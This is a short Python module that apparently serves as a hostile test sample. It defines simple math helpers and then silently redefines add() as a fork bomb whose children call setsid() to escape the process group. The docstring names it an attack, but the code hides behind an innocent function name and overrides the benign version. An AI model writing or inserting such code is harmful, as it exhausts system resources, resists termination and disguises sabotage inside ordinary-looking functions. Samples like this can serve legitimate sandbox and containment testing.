"""Attack: add() forks without end; children setsid() to escape the process group."""

import os
import sys


def add(a, b):
    return a + b


def mean(xs):
    if not xs:
        raise ValueError("mean of an empty list")
    return sum(xs) / len(xs)


def clip(x, lo, hi):
    raise NotImplementedError("clip: x limited to [lo, hi]")


def add(a, b):  # noqa: F811
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
